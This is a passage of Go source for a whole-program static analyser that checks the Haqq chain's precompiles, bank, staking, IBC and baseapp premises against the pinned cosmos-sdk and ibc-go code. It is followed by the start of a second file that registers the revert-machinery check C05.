	seen[fn] = true
	for _, f := range withAnon(fn) {
		eachCall(f, func(ci CallInfo) {
			if ci.Builtin != "" {
				return
			}
			if ci.Static != nil && strings.Contains(fnPkgPath(ci.Static), "/precompiles/") && ci.Static.Blocks != nil {
				if depth > 0 {
					for _, s := range externalSites(ci.Static, depth-1, seen) {
						out = append(out, extSite{Call: s.Call, Info: s.Info, Via: append([]string{fnID(ci.Static)}, s.Via...)})
					}
				}
				return
			}
			out = append(out, extSite{Call: ci.Instr, Info: ci})
		})
	}
	return out
}

// wholeProgramEffects (C02 thorough): rule W1.
func wholeProgramEffects(r *Run) {
	P := r.P
	r.Rule("W1", "whole-program (LoadAllSyntax + VTA through cosmos-sdk/ibc-go): a call made by a stateful precompile handler (directly or through precompile-package helpers) can reach the bank keeper's balance writer if and only if it is a tabled bank-moving effect; in particular no call that the quick rules treat as read-only or non-moving reaches it")
	w, err := loadWhole(P.RepoDir, P.Tags)
	if err != nil {
		r.Fail("whole-program load failed: %v", err)
		return
	}
	targets, problems := w.bankBalanceWriters()
	for _, p := range problems {
		r.Fail("whole-program premise: %s", p)
	}
	if len(targets) == 0 {
		return
	}
	isT := map[*ssa.Function]bool{}
	for _, t := range targets {
		isT[t] = true
	}
	R := w.reachers(targets)
	// controls of the search itself (a silent control is an analyser failure, not a verdict):
	// positive — Haqq's ante helper claims rewards inside a closure handed to IterateDelegations (found only
	// because the closure is bound at the call site); negative — the distribution querier hands a counting
	// closure to the very same IterateDelegations (kept apart only by the per-site binding).
	for _, c := range []struct {
		fn    string
		reach bool
	}{
		{haqqMod + "/app/ante/utils.ClaimSufficientStakingRewards", true},
		{"(github.com/cosmos/cosmos-sdk/x/distribution/keeper.Querier).DelegationTotalRewards", false},
		{"(github.com/cosmos/cosmos-sdk/x/authz/keeper.Keeper).SaveGrant", false},
		{"(github.com/cosmos/cosmos-sdk/x/staking/keeper.msgServer).Delegate", true},
	} {
		f := w.byName[c.fn]
		if f == nil {
			r.Fail("whole-program control %s not found", c.fn)
			continue
		}
		got := w.reachCtx(f, wBind{}, R, isT, map[string]bool{}) != nil
		if got != c.reach {
			r.Fail("whole-program control failed: %s reaches the bank balance writer = %v, expected %v", c.fn, got, c.reach)
		} else {
			r.Count("W1 search controls matched", 1)
		}
	}
	r.Count("W1 whole-program packages", w.NPkgs)
	r.Count("W1 whole-program functions", len(w.Funcs))
	r.Count("W1 functions that can reach the bank balance writer (VTA)", len(R))
	nSites, nMoving, nUnmapped := 0, 0, 0
	for _, m := range wiredPrecompiles(r) {
		if !m.Stateful {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil {
				continue
			}
			idx := map[string]int{}
			for _, s := range externalSites(h.Fn, 3, map[*ssa.Function]bool{}) {
				if writesDiscardedCacheCtx(s.Call) {
					continue // branched context whose write function is never called
				}
				wsites, ok := w.sitesAt(P, s.Call)
				name := s.Info.Recv + "." + s.Info.Name
				if s.Info.Recv == "" {
					name = s.Info.Name
				}
				idx[name]++
				inst := fmt.Sprintf("%s#%s-%d", fnID(h.Fn), name, idx[name])
				where := P.Pos(instrPos(s.Call))
				if !ok {
					nUnmapped++
					continue
				}
				nSites++
				var hit []string
				ncallees := 0
				for _, ws := range wsites {
					ncallees += len(w.siteCallees(ws))
					if ch := w.reachFromSite(ws, R, isT); ch != nil {
						hit = ch
						break
					}
				}
				_, tabledMoving := isBankMoving(s.Info)
				switch {
				case hit != nil && tabledMoving:
					nMoving++
					r.OK("W1", inst, where, fmt.Sprintf("tabled bank-moving; confirmed: %s reaches the balance writer in %d calls", hit[0], len(hit)-1))
				case hit != nil && !tabledMoving:
					r.Bad("W1", inst, where, fmt.Sprintf("%s is treated as %s by the quick rules, but in the whole program it can reach the bank keeper's balance writer: a bank balance can change under the StateDB without a mirror obligation (C02 R4) or guard obligation being generated for this call",
						s.Info.String(), map[bool]string{true: "a non-moving effect", false: "read-only"}[isCosmosEffect(s.Info)]), hit...)
				case hit == nil && tabledMoving:
					// the table is more cautious than the program: no behavioural consequence; noted, not a violation
					r.Note("W1: %s at %s is tabled bank-moving but VTA finds no path to the balance writer (table is conservative here)", s.Info.String(), where)
					r.OK("W1", inst, where, "tabled bank-moving (conservative: no whole-program path found)")
				default:
					r.OK("W1", inst, where, "cannot reach the bank balance writer (VTA + per-site callback binding, "+fmt.Sprint(ncallees)+" resolved callee(s))")
				}
			}
		}
	}
	r.Count("W1 handler call sites classified through the whole program", nSites)
	r.Count("W1 call sites without a whole-program counterpart (no position)", nUnmapped)
	r.Floor("W1", "bank-moving call sites confirmed through the whole program", nMoving, 9)
	r.Floor("W1", "handler call sites classified through the whole program", nSites, 100)

	// W9: premise of R11 — the tabled staking message-server methods do pay out rewards
	r.Rule("W9", "whole-program premise of R11 (cosmos-sdk x/staking and x/distribution with bodies, VTA): each staking message-server method tabled as reward-paying (Delegate, Undelegate, BeginRedelegate, CancelUnbondingDelegation) reaches the distribution keeper's withdrawDelegationRewards, which sends coins from the distribution account to the delegator's withdraw address")
	var wd []*ssa.Function
	for f := range w.Funcs {
		if f.Name() == "withdrawDelegationRewards" && fnPkgPath(f) == "github.com/cosmos/cosmos-sdk/x/distribution/keeper" {
			wd = append(wd, f)
		}
	}
	if len(wd) == 0 {
		r.Bad("W9", "anchor/withdrawDelegationRewards", "", "the distribution keeper's withdrawDelegationRewards was not found in the whole program")
	} else {
		RW := w.reachers(wd)
		nW := 0
		for _, name := range []string{"Delegate", "Undelegate", "BeginRedelegate", "CancelUnbondingDelegation"} {
			var ms *ssa.Function
			for f := range w.Funcs {
				if f.Name() == name && fnPkgPath(f) == "github.com/cosmos/cosmos-sdk/x/staking/keeper" && f.Signature.Recv() != nil && namedName(deref(f.Signature.Recv().Type())) == "msgServer" {
					ms = f
				}
			}
			if ms == nil {
				r.Bad("W9", "anchor/msgServer."+name, "", "staking message-server method not found")
				continue
			}
			nW++
			r.Check(RW[ms], "W9", "cosmos-sdk/x/staking/keeper.msgServer."+name+"#pays-rewards", "", "reaches distribution withdrawDelegationRewards",
				"the staking message-server method no longer reaches the distribution keeper's reward payout: the premise of R11 (a mirror must be measured because rewards are paid as a side effect) does not hold for it on this dependency version")
		}
		r.Floor("W9", "tabled reward-paying message-server methods", nW, 4)
	}
}

// storeWriters: Set/Delete methods of the SDK store implementations (cachekv, gaskv, prefix, iavl, …):
// methods of types in cosmos-sdk/store/** whose method set has Get, Has, Set, Delete and Iterator (the
// KVStore shape). Internal caches of those stores (cachekv's sorted BTree of dirty items, which an
// iterator rebuilds) are not store writes.
func (w *WProg) storeWriters() []*ssa.Function {
	var out []*ssa.Function
	for f := range w.Funcs {
		if f.Blocks == nil || (f.Name() != "Set" && f.Name() != "Delete") || f.Signature.Recv() == nil || f.Synthetic != "" {
			continue
		}
		pp := fnPkgPath(f)
		if !(strings.HasPrefix(pp, "github.com/cosmos/cosmos-sdk/store/") || pp == "github.com/cosmos/cosmos-sdk/store") {
			continue
		}
		ms := w.SSA.MethodSets.MethodSet(f.Signature.Recv().Type())
		has := map[string]bool{}
		for i := 0; i < ms.Len(); i++ {
			has[ms.At(i).Obj().Name()] = true
		}
		if has["Get"] && has["Has"] && has["Set"] && has["Delete"] && has["Iterator"] && has["ReverseIterator"] {
			out = append(out, f)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	return out
}

// wholeProgramQueries (C16 thorough): rule W2 — a handler that is not classified as a transaction cannot
// reach any store write, whatever it calls (the quick rule R1 trusts a read-only-by-name list).
func wholeProgramQueries(r *Run) {
	P := r.P
	r.Rule("W2", "whole-program (LoadAllSyntax + VTA with per-site callback binding): no call made by a precompile handler whose method is not in IsTransaction can reach a Set/Delete of a cosmos-sdk store implementation — a query handler is read-only through every callee, not just by the names the quick rule R1 lists; every transaction handler does reach one (control)")
	w, err := loadWhole(P.RepoDir, P.Tags)
	if err != nil {
		r.Fail("whole-program load failed: %v", err)
		return
	}
	targets := w.storeWriters()
	if len(targets) < 4 {
		r.Fail("whole-program premise: only %d store Set/Delete implementations found", len(targets))
		return
	}
	isT := map[*ssa.Function]bool{}
	for _, t := range targets {
		isT[t] = true
	}
	R := w.reachers(targets)
	r.Count("W2 store Set/Delete implementations", len(targets))
	r.Count("W2 functions that can reach a store write (VTA)", len(R))
	nQ, nTx, nTxReach, nDiscarded := 0, 0, 0, 0
	for _, m := range wiredPrecompiles(r) {
		if !m.Stateful {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil {
				continue
			}
			var hit []string
			var hitAt string
			for _, s := range externalSites(h.Fn, 3, map[*ssa.Function]bool{}) {
				if writesDiscardedCacheCtx(s.Call) {
					nDiscarded++
					continue // runs on a branched context whose write function is never called: nothing persists
				}
				wsites, ok := w.sitesAt(P, s.Call)
				if !ok {
					continue
				}
				for _, ws := range wsites {
					if ch := w.reachFromSite(ws, R, isT); ch != nil {
						hit, hitAt = ch, P.Pos(instrPos(s.Call))
						break
					}
				}
				if hit != nil {
					break
				}
			}
			inst := fnID(h.Fn) + "#" + h.Method
			if h.IsTx {
				nTx++
				if hit != nil {
					nTxReach++
				}
				continue
			}
			nQ++
			r.Check(hit == nil, "W2", inst, P.Pos(fnPos(h.Fn)), "no store write reachable from this query handler",
				"the handler of a method that IsTransaction does not list can reach a store write (call at "+hitAt+"): a 'view' call changes Cosmos state, outside the flush/journal discipline applied to transactions and callable under STATICCALL", hit...)
		}
	}
	r.Count("W2 query handlers examined", nQ)
	r.Count("W2 calls on a discarded cache context (skipped)", nDiscarded)
	r.Count("W2 transaction handlers that reach a store write (control)", nTxReach)
	r.Floor("W2", "query handlers examined through the whole program", nQ, 10)
	if nTx > 0 && nTxReach < nTx {
		r.Fail("whole-program control failed: only %d of %d transaction handlers reach a store write — the search is too narrow to trust its negative answers", nTxReach, nTx)
	}
}

// wholeProgramEffectFilter (C04 thorough): rule W3 — the name-based effect filter that generates the guard,
// grant, mirror and flush obligations of the quick rules (isCosmosEffect) misses nothing that writes state.
func wholeProgramEffectFilter(r *Run) {
	P := r.P
	r.Rule("W3", "whole-program (LoadAllSyntax + VTA with per-site callback binding): in the handlers of wired stateful precompiles every call that can reach a Set/Delete of a cosmos-sdk store implementation is one the quick rules classify as a Cosmos-side effect (so an identity-guard / grant / mirror / classification obligation exists for it), runs on a discarded cache context, or is a tabled write that is part of the precompile mechanism itself (StateDB flush, gas accounting)")
	w, err := loadWhole(P.RepoDir, P.Tags)
	if err != nil {
		r.Fail("whole-program load failed: %v", err)
		return
	}
	targets := w.storeWriters()
	if len(targets) < 4 {
		r.Fail("whole-program premise: only %d store Set/Delete implementations found", len(targets))
		return
	}
	isT := map[*ssa.Function]bool{}
	for _, t := range targets {
		isT[t] = true
	}
	R := w.reachers(targets)
	nSites, nEff, nWrites := 0, 0, 0
	for _, m := range wiredPrecompiles(r) {
		if !m.Stateful {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil {
				continue
			}
			idx := map[string]int{}
			for _, s := range externalSites(h.Fn, 3, map[*ssa.Function]bool{}) {
				nSites++
				if isCosmosEffect(s.Info) {
					nEff++
					continue
				}
				if writesDiscardedCacheCtx(s.Call) {
					continue
				}
				wsites, ok := w.sitesAt(P, s.Call)
				if !ok {
					continue
				}
				var hit []string
				for _, ws := range wsites {
					if ch := w.reachFromSite(ws, R, isT); ch != nil {
						hit = ch
						break
					}
				}
				if hit == nil {
					continue
				}
				nWrites++
				name := s.Info.Recv + "." + s.Info.Name
				if s.Info.Recv == "" {
					name = s.Info.Name
				}
				idx[name]++
				inst := fmt.Sprintf("%s#%s-%d", fnID(h.Fn), name, idx[name])
				if why, ok := mechanismWrites[name]; ok {
					r.OK("W3", inst, P.Pos(instrPos(s.Call)), "tabled mechanism write: "+why)
					continue
				}
				r.Bad("W3", inst, P.Pos(instrPos(s.Call)), s.Info.String()+" can reach a store write but the quick rules do not treat it as a Cosmos-side effect: no identity-guard, grant, mirror or classification obligation is generated for it", hit...)
			}
		}
	}
	if nWrites == 0 {
		r.OK("W3", "effect-filter-complete", "", fmt.Sprintf("%d handler call sites examined: every one that can reach a store write is classified as a Cosmos-side effect by the quick rules (%d such sites)", nSites, nEff))
	}
	// the table C04 R15 works from: the message cases of StakeAuthorization.Accept in the pinned SDK
	if acc := w.byName["(github.com/cosmos/cosmos-sdk/x/staking/types.StakeAuthorization).Accept"]; acc != nil && acc.Blocks != nil {
		got := map[string]bool{}
		eachInstr(acc, func(in ssa.Instruction) {
			if ta, ok := in.(*ssa.TypeAssert); ok && strings.HasPrefix(namedName(ta.AssertedType), "Msg") {
				got[namedName(ta.AssertedType)] = true
			}
		})
		var diff []string
		for k := range got {
			if !stakeAuthzMessages[k] {
				diff = append(diff, "+"+k)
			}
		}
		for k := range stakeAuthzMessages {
			if !got[k] {
				diff = append(diff, "-"+k)
			}
		}
		sort.Strings(diff)
		r.Check(len(diff) == 0, "W3", "table/StakeAuthorization.Accept#message-cases", "", "the tabled staking messages are the cases of Accept's type switch", "the messages StakeAuthorization.Accept handles differ from the table C04 R15 checks: "+strings.Join(diff, " "))
	} else {
		r.Bad("W3", "anchor/StakeAuthorization.Accept", "", "cosmos-sdk StakeAuthorization.Accept not found in the whole program")
	}
	r.Count("W3 handler call sites examined", nSites)
	r.Count("W3 call sites the quick rules classify as Cosmos-side effects", nEff)
	r.Count("W3 other call sites that reach a store write", nWrites)
	r.Floor("W3", "handler call sites examined through the whole program", nSites, 100)
}

// mechanismWrites: calls in precompile handlers that write to a store as part of the precompile mechanism.
var mechanismWrites = map[string]string{}

// wholeProgramBankDebits (C08 thorough): rule W5 — the premise the quick rules trust ("the bank keeper
// consults LockedCoins on every debit") is re-derived from the pinned cosmos-sdk source.
func wholeProgramBankDebits(r *Run) {
	P := r.P
	r.Rule("W5", "whole-program premise (cosmos-sdk x/bank/keeper with bodies): an account balance is written only by setBalance/initBalances; setBalance is called only by addCoins (credit), subUnlockedCoins and DelegateCoins (UndelegateCoins credits through addCoins); in subUnlockedCoins every setBalance is preceded by LockedCoins(ctx, addr) whose result feeds the spendable comparison, and LockedCoins asks the account's VestingAccount.LockedCoins(block time); the one debit that does not consult it, DelegateCoins, is called only by DelegateCoinsFromAccountToModule, which only the staking keeper's Delegate calls (the entry that C08 R3/R4 guard); Haqq code calls none of these debit primitives directly")
	w, err := loadWhole(P.RepoDir, P.Tags)
	if err != nil {
		r.Fail("whole-program load failed: %v", err)
		return
	}
	fn := func(name string) *ssa.Function { return w.byName[name] }
	bk := "(" + sdkBankKeeper + ".BaseKeeper)."
	sk := "(" + sdkBankKeeper + ".BaseSendKeeper)."
	vk := "(" + sdkBankKeeper + ".BaseViewKeeper)."
	need := map[string]*ssa.Function{}
	for _, n := range []string{sk + "setBalance", sk + "addCoins", sk + "subUnlockedCoins", sk + "initBalances", bk + "DelegateCoins", bk + "UndelegateCoins", bk + "DelegateCoinsFromAccountToModule", vk + "LockedCoins"} {
		f := fn(n)
		if f == nil || f.Blocks == nil {
			r.Fail("whole-program premise: %s not found with a body", n)
			return
		}
		need[n] = f
	}
	callersOf := func(f *ssa.Function) map[string]bool {
		out := map[string]bool{}
		if n := w.CG.Nodes[f]; n != nil {
			for _, e := range n.In {
				c := e.Caller.Func
				if c.Synthetic != "" && strings.Contains(c.Synthetic, "wrapper") {
					// pointer-receiver / promoted-method wrappers: attribute to their own callers
					if n2 := w.CG.Nodes[c]; n2 != nil {
						for _, e2 := range n2.In {
							out[e2.Caller.Func.String()] = true
						}
					}
					continue
				}
				out[c.String()] = true
			}
		}
		return out
	}
	notTest := func(m map[string]bool) []string {
		var out []string
		for k := range m {
			if strings.Contains(k, "/testutil") || strings.Contains(k, "/simulation") || strings.Contains(k, "simapp") || strings.Contains(k, "_test") {
				continue
			}
			out = append(out, k)
		}
		sort.Strings(out)
		return out
	}
	subset := func(got []string, allowed ...string) []string {
		al := map[string]bool{}
		for _, a := range allowed {
			al[a] = true
		}
		var extra []string
		for _, g := range got {
			if !al[g] {
				extra = append(extra, g)
			}
		}
		return extra
	}
	// (a) balance writers
	targets, _ := w.bankBalanceWriters()
	var tn []string
	for _, t := range targets {
		tn = append(tn, t.String())
	}
	r.Check(len(subset(tn, sk+"setBalance", sk+"initBalances")) == 0 && len(tn) >= 1, "W5", "bank#balance-writers", "", "account balances are written by "+strings.Join(tn, ", "),
		"another function of the SDK bank keeper writes account balances: "+strings.Join(subset(tn, sk+"setBalance", sk+"initBalances"), ", "))
	// (b) callers of setBalance
	cs := notTest(callersOf(need[sk+"setBalance"]))
	extra := subset(cs, sk+"addCoins", sk+"subUnlockedCoins", bk+"DelegateCoins", bk+"UndelegateCoins")
	r.Check(len(extra) == 0 && len(cs) >= 3, "W5", "bank#setBalance-callers", "", "setBalance ← "+strings.Join(cs, ", "),
		"setBalance's callers are ["+strings.Join(cs, ", ")+"]; expected exactly addCoins/subUnlockedCoins/DelegateCoins/UndelegateCoins (unexpected: "+strings.Join(extra, ", ")+") — a debit path that may not consult LockedCoins")
	// (c) subUnlockedCoins: LockedCoins precedes every setBalance and feeds the comparison
	sub := need[sk+"subUnlockedCoins"]
	isLocked := isCallMatching(func(ci CallInfo) bool { return ci.Name == "LockedCoins" })
	isSet := isCallMatching(func(ci CallInfo) bool { return ci.Name == "setBalance" })
	wit := Precedes(sub, isLocked, isSet, nil)
	feeds := false
	for _, c := range findCalls(sub, func(ci CallInfo) bool { return ci.Name == "SafeSub" }) {
		if backSlice(callArgs(c)...).HasCall(func(ci CallInfo) bool { return ci.Name == "LockedCoins" }) {
			feeds = true
		}
	}
	r.Check(wit == nil && feeds && len(findCalls(sub, func(ci CallInfo) bool { return ci.Name == "setBalance" })) > 0, "W5", "bank#subUnlockedCoins-consults-locked", "", "LockedCoins precedes every setBalance and feeds the spendable comparison",
		"subUnlockedCoins of the pinned SDK no longer reads LockedCoins before every balance write / no longer subtracts it from the balance: vesting locks are not enforced on bank debits")
	// (d) LockedCoins asks the vesting account
	lc := need[vk+"LockedCoins"]
	asks := false
	eachInstr(lc, func(in ssa.Instruction) {
		if ta, ok := in.(*ssa.TypeAssert); ok && namedName(ta.AssertedType) == "VestingAccount" {
			asks = true
		}
	})
	callsLocked := len(findCalls(lc, func(ci CallInfo) bool { return ci.Name == "LockedCoins" && ci.Invoke })) > 0
	r.Check(asks && callsLocked, "W5", "bank#LockedCoins-asks-account", "", "LockedCoins = account.(VestingAccount).LockedCoins(block time)",
		"the SDK's LockedCoins no longer asks the account's VestingAccount implementation")
	// (e) the unguarded debit
	dc := notTest(callersOf(need[bk+"DelegateCoins"]))
	extra = subset(dc, bk+"DelegateCoinsFromAccountToModule")
	r.Check(len(extra) == 0 && len(dc) >= 1, "W5", "bank#DelegateCoins-callers", "", "DelegateCoins ← "+strings.Join(dc, ", "),
		"DelegateCoins (the debit that moves locked coins) has further callers: "+strings.Join(extra, ", "))
	dm := notTest(callersOf(need[bk+"DelegateCoinsFromAccountToModule"]))
	var extraDM []string
	for _, c := range dm {
		if c == "(github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).Delegate" {
			continue
		}
		// wrappers of keeper types that embed the bank keeper forward the call (Haqq's x/bank wrapper): follow one level
		if strings.Contains(c, ".DelegateCoinsFromAccountToModule") {
			continue
		}
		extraDM = append(extraDM, c)
	}
	r.Check(len(extraDM) == 0 && len(dm) >= 1, "W5", "bank#DelegateCoinsFromAccountToModule-callers", "", "DelegateCoinsFromAccountToModule ← "+strings.Join(dm, ", "),
		"DelegateCoinsFromAccountToModule is called by something other than the staking keeper's Delegate: "+strings.Join(extraDM, ", ")+" — locked/unvested coins can leave the account around the delegation checks of C08 R3/R4")
	r.Count("W5 SDK bank premise clauses checked", 6)
}

// ---- premises of the quick rules, re-derived from the dependencies' source (thorough tier) ----

// wholeProgramBurnSources (C14 thorough): rule W6 — the redirected set is complete for what staking and gov destroy.
func wholeProgramBurnSources(r *Run) {
	P := r.P
	r.Rule("W6", "whole-program premise (cosmos-sdk x/staking, x/gov, x/slashing, x/evidence with bodies): every BurnCoins call these modules make names, as a constant, one of the accounts the Haqq bank keeper redirects (gov, bonded_tokens_pool, not_bonded_tokens_pool) — the case set of C14 R1 is complete for slashed stake and burned deposits; a burn with a non-constant or other module name in those packages is reported")
	w, err := loadWhole(P.RepoDir, P.Tags)
	if err != nil {
		r.Fail("whole-program load failed: %v", err)
		return
	}
	redirected := map[string]bool{"gov": true, "bonded_tokens_pool": true, "not_bonded_tokens_pool": true}
	n := 0
	found := map[string]bool{}
	for f := range w.Funcs {
		if f.Blocks == nil {
			continue
		}
		pp := fnPkgPath(f)
		isMod := false
		for _, m := range []string{"x/staking/keeper", "x/gov/keeper", "x/slashing/keeper", "x/evidence/keeper", "x/gov", "x/staking"} {
			if pp == "github.com/cosmos/cosmos-sdk/"+m {
				isMod = true
			}
		}
		if !isMod {
			continue
		}
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				c, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				ci := callInfo(c)
				if ci.Name != "BurnCoins" {
					continue
				}
				args := callArgs(c)
				// (ctx, moduleName, amt) — with the receiver first for static calls
				var modArg ssa.Value
				for _, a := range args {
					if bt, ok := a.Type().Underlying().(*types.Basic); ok && bt.Kind() == types.String {
						modArg = a
						break
					}
				}
				n++
				name, isConst := "", false
				if modArg != nil {
					name, isConst = constString(modArg)
				}
				pos := w.Fset.Position(c.Pos())
				where := fmt.Sprintf("%s:%d", pos.Filename[strings.LastIndex(pos.Filename, "/pkg/mod/")+1:], pos.Line)
				inst := strings.TrimPrefix(f.String(), "github.com/cosmos/cosmos-sdk/") + "#BurnCoins"
				if isConst {
					found[name] = true
				}
				r.Check(isConst && redirected[name], "W6", inst, where, "burns from "+name+" (redirected)",
					fmt.Sprintf("a staking/gov/slashing/evidence burn names %q (constant: %v), which the Haqq bank keeper does not redirect: coins these modules destroy would leave circulation", name, isConst))
			}
		}
	}
	r.Count("W6 BurnCoins calls in staking/gov/slashing/evidence", n)
	r.Floor("W6", "BurnCoins calls in the SDK modules whose burns are redirected", n, 3)
	for m := range redirected {
		if !found[m] {
			r.Note("W6: no SDK burn names %q on this tree (the redirect case exists but has no source)", m)
		}
	}
}

// wholeProgramAnteBeforeMsgs (C06 thorough): rule W7 — baseapp runs the installed ante handler before any message.
func wholeProgramAnteBeforeMsgs(r *Run) {
	P := r.P
	r.Rule("W7", "whole-program premise (cosmos-sdk baseapp with bodies): in (*BaseApp).runTx every path to runMsgs passes an error-checked call of app.anteHandler, except over the edge on which app.anteHandler == nil (C06 R6 shows NewHaqq installs one)")
	w, err := loadWhole(P.RepoDir, P.Tags)
	if err != nil {
		r.Fail("whole-program load failed: %v", err)
		return
	}
	rt := w.byName["(*github.com/cosmos/cosmos-sdk/baseapp.BaseApp).runTx"]
	if rt == nil || rt.Blocks == nil {
		r.Fail("whole-program premise: baseapp.runTx not found with a body")
		return
	}
	isAnteField := func(v ssa.Value) bool {
		return backSlice(v).HasField("BaseApp", "anteHandler")
	}
	var anteCalls []ssa.CallInstruction
	eachInstr(rt, func(in ssa.Instruction) {
		if c, ok := in.(ssa.CallInstruction); ok && !c.Common().IsInvoke() && c.Common().StaticCallee() == nil {
			if isAnteField(c.Common().Value) {
				anteCalls = append(anteCalls, c)
			}
		}
	})
	nilEq, _ := condEdges(rt, func(x, y ssa.Value) bool { return isAnteField(x) && isNilConst(y) })
	isAnte := func(in ssa.Instruction) bool {
		for _, c := range anteCalls {
			if ssa.Instruction(c) == in {
				return true
			}
		}
		return false
	}
	isRunMsgs := isCallMatching(func(ci CallInfo) bool { return ci.Name == "runMsgs" })
	wit := PathQuery{Fn: rt, Block: isAnte, Target: isRunMsgs, DelEdge: edgeSet(nilEq)}.Search()
	handled := len(anteCalls) > 0
	for _, c := range anteCalls {
		if !errHandled(c) {
			handled = false
		}
	}
	r.Check(wit == nil && handled && len(findCalls(rt, func(ci CallInfo) bool { return ci.Name == "runMsgs" })) > 0, "W7", "baseapp.runTx#ante-before-msgs", "", "the ante handler (error-checked) precedes runMsgs on every path where one is installed",
		"in the pinned SDK's runTx messages can run without the ante handler having passed: the route/reject/limiter chain of C06 would not gate execution", w.witnessW(wit)...)
}

func (w *WProg) witnessW(path []ssa.Instruction) []string {
	var out []string
	for _, in := range path {
		if p := in.Pos(); p.IsValid() {
			q := w.Fset.Position(p)
			out = append(out, fmt.Sprintf("%s:%d", q.Filename[strings.LastIndex(q.Filename, "/")+1:], q.Line))
		}
	}
	return out
}

// wholeProgramAckCommit (C10 thorough): rule W8 — ibc core keeps the application's writes only for a successful acknowledgement.
func wholeProgramAckCommit(r *Run) {
	P := r.P
	r.Rule("W8", "whole-program premise (ibc-go core with bodies): in (core/keeper.Keeper).RecvPacket the application callback OnRecvPacket runs on ctx.CacheContext() and the write function of that cache context is called only over the edge on which the acknowledgement is nil or ack.Success() is true — so the error acknowledgement that C10 R5 requires after a failed conversion really discards the half-done conversion")
	w, err := loadWhole(P.RepoDir, P.Tags)
	if err != nil {
		r.Fail("whole-program load failed: %v", err)
		return
	}
	rp := w.byName["(github.com/cosmos/ibc-go/v7/modules/core/keeper.Keeper).RecvPacket"]
	if rp == nil || rp.Blocks == nil {
		r.Fail("whole-program premise: ibc core RecvPacket not found with a body")
		return
	}
	// the OnRecvPacket call and the cache context it receives
	var cb ssa.CallInstruction
	eachInstr(rp, func(in ssa.Instruction) {
		if c, ok := in.(ssa.CallInstruction); ok && c.Common().IsInvoke() && c.Common().Method.Name() == "OnRecvPacket" {
			cb = c
		}
	})
	if cb == nil {
		r.Bad("W8", "ibc-core.RecvPacket#callback", "", "RecvPacket no longer calls the application's OnRecvPacket")
		return
	}
	var cacheCall *ssa.Call
	for _, a := range cb.Common().Args {
		if ex, ok := stripValue(a).(*ssa.Extract); ok && ex.Index == 0 {
			if c, ok := ex.Tuple.(*ssa.Call); ok && callInfo(c).Name == "CacheContext" {
				cacheCall = c
			}
		}
		// the context may be reloaded from a local: look through the slice
		if cacheCall == nil && namedName(a.Type()) == "Context" {
			backSlice(a).Any(func(v ssa.Value) bool {
				if c, ok := v.(*ssa.Call); ok && callInfo(c).Name == "CacheContext" && instrMayPrecede(c, cb) {
					cacheCall = c
				}
				return false
			})
		}
	}
	if cacheCall == nil {
		r.Bad("W8", "ibc-core.RecvPacket#cache-context", "", "the application callback does not run on a context obtained from CacheContext()")
		return
	}
	// calls of a write function after the callback: values of func() type that derive from a CacheContext call
	var writes []ssa.Instruction
	seenCB := false
	for _, b := range rp.Blocks {
		for _, in := range b.Instrs {
			if in == ssa.Instruction(cb) {
				seenCB = true
			}
			c, ok := in.(ssa.CallInstruction)
			if !ok || c.Common().IsInvoke() || c.Common().StaticCallee() != nil {
				continue
			}
			if _, isB := c.Common().Value.(*ssa.Builtin); isB {
				continue
			}
			if sig, ok := c.Common().Value.Type().Underlying().(*types.Signature); ok && sig.Params().Len() == 0 && sig.Results().Len() == 0 {
				if backSlice(c.Common().Value).HasCall(func(ci CallInfo) bool { return ci.Name == "CacheContext" }) && blockReachesMemo(cb.Block(), b) && (b != cb.Block() || seenCB) {
					writes = append(writes, in)
				}
			}
		}
	}
	ackVal := cb.Value()
	okEdges, _ := guardPassEdges(rp, func(cond ssa.Value) (bool, bool) {
		if c, ok := cond.(*ssa.Call); ok && c.Common().IsInvoke() && c.Common().Method.Name() == "Success" && backSlice(c.Common().Value).Has(ackVal) {
			return true, true
		}
		return false, false
	})
	nilEq, _ := condEdges(rp, func(x, y ssa.Value) bool { return backSlice(x).Has(ackVal) && isNilConst(y) })
	isWrite := func(in ssa.Instruction) bool {
		for _, x := range writes {
			if x == in {
				return true
			}
		}
		return false
	}
	wit := PathQuery{Fn: rp, Start: cb, Target: isWrite, DelEdge: edgeSet(append(append([]Edge{}, okEdges...), nilEq...))}.Search()
	r.Check(len(writes) > 0 && len(okEdges) > 0 && wit == nil, "W8", "ibc-core.RecvPacket#write-only-on-success", "", fmt.Sprintf("cache context written only where ack == nil or ack.Success() (%d write site(s) after the callback)", len(writes)),
		"in the pinned ibc-go the application's cached writes can be committed for an unsuccessful acknowledgement (or are never committed): the error acknowledgement of C10 R5 would not undo a half-done conversion", w.witnessW(wit)...)
}
