package main

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C05",
		Run: runC05,
		Explanation: "Static analysis of the revert machinery: (R1) Cosmos-side writes of a precompile can be undone with the call frame only if some journal entry restores the SDK context and the precompile registers it before dispatch; " +
			"(R2) ApplyTransaction runs the message and the hooks on the cache context and commits it only when the EVM did not fail and the hooks succeeded; (R3) NewHaqq installs non-empty EVM hooks, which is what makes that cache context exist; " +
			"(R4) every write to revertible StateDB/stateObject state is journaled (append precedes the write, or the raw setter is only called from journaled wrappers and Revert methods), and every journal entry kind has a Revert that restores from its recorded previous value.",
		Assumptions: []string{"go-ethereum calls StateDB.Snapshot/RevertToSnapshot around every call frame", "sdk CacheContext isolates writes until the write function is called"},
		Declined:    nil,
	})
}

const statedbPkg = haqqMod + "/x/evm/statedb"

func runC05(r *Run) {
	P := r.P
	r.Rule("R1", "TYPE/PATH.revertible-context: some JournalEntry implementation's Revert must restore SDK-side state (assign StateDB.ctx / restore a store snapshot), and every wired stateful precompile with Cosmos-side effects must append such an entry before dispatching a transaction handler")
	r.Rule("R2", "PATH.tx-cache: in ApplyTransaction the message and PostTxProcessing run on the context returned by ctx.CacheContext(); its write function is called only on edges where res.Failed() is false and the hook error is nil, and on every such path (unless it is nil)")
	r.Rule("R3", "TABLE.hooks-installed: NewHaqq calls SetHooks(NewMultiEvmHooks(h1, …)) with at least one hook")
